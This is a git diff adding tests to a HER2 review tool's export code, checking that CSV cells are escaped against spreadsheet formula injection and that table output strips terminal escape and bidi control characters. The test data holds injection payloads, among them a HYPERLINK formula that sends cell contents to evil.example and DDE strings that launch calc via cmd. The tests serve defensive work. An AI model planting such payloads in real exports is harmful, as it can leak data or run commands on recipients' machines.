@@ -60,6 +60,47 @@ describe("formats", () => {
     expect(rows[1]).toMatchObject({ patient: "Patient/b", setting: "metastatic", "reflex-ish-missing": "0" });
   });
 
+  it("csv: cells a spreadsheet would run as a formula get a leading ' (OWASP), the rest of the value intact", () => {
+    const crafted = assessment('=HYPERLINK("http://evil.example/?x="&A1,"open")', {
+      statusReason: "@SUM(1+1)*cmd|' /C calc'!A0",
+      recommendation: { text: "\tcmd /c calc", citations: [] },
+      basis: {
+        date: "2026-03-02",
+        specimen: "Specimen/s1",
+        specimenLabel: "-2+3+cmd|' /C calc'!A0",
+        evidence: [],
+      },
+    });
+    const plus = assessment("+1+1", {
+      statusReason: "\r=1+1",
+      recommendation: { text: "ok", citations: [] },
+    });
+    const [first, second] = parseCsv(render("csv", [crafted, plus]));
+    expect(first).toMatchObject({
+      patient: `'=HYPERLINK("http://evil.example/?x="&A1,"open")`,
+      status_reason: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      recommendation: "'\tcmd /c calc",
+      basis_specimen: "'-2+3+cmd|' /C calc'!A0",
+      results: "0",
+      "reflex-ish-missing": "0",
+    });
+    expect(second).toMatchObject({ patient: "'+1+1", status_reason: "'\r=1+1", recommendation: "ok" });
+  });
+
+  it("table: control characters and bidi overrides are stripped from ids and text", () => {
+    const lines = render("table", [
+      assessment("Patient/\x1b[31mred\x1b[0m\x07\x7f\u009b2J"),
+      assessment("Patient/\u202eevil\u202c\u2066x\u2069\nnext\ttab\r"),
+      b,
+    ])
+      .trimEnd()
+      .split("\n");
+    expect(lines).toHaveLength(4);
+    expect(lines[1]).toMatch(/^Patient\/\[31mred\[0m2J\s+equivocal\s+unknown\s+early\s+-$/);
+    expect(lines[2]).toMatch(/^Patient\/evilxnexttab\s+equivocal\s+unknown\s+early\s+-$/);
+    expect(lines[0]?.indexOf("STATUS")).toBe("Patient/[31mred[0m2J".length + 2);
+  });
+
   it("table: flags listed once each, '-' when none", () => {
     const lines = render("table", [a, b]).trimEnd().split("\n");
     expect(lines[1]).toMatch(
@@ -115,7 +156,7 @@ describe("summary", () => {
     expect(summary.line(42, 1, true)).toBe(
       "her2 review: 2 patients (1 shown), 42 resources read, 1 HER2 result, 1 unreadable; " +
         "status positive 1, negative 0, equivocal 1, indeterminate 0, no-result 0; " +
-        "flags reflex-ish-missing 1, result-pending 1; 1 warning",
+        "flags reflex-ish-missing 1, result-pending 1; 0 skipped; 1 warning",
     );
   });
 });
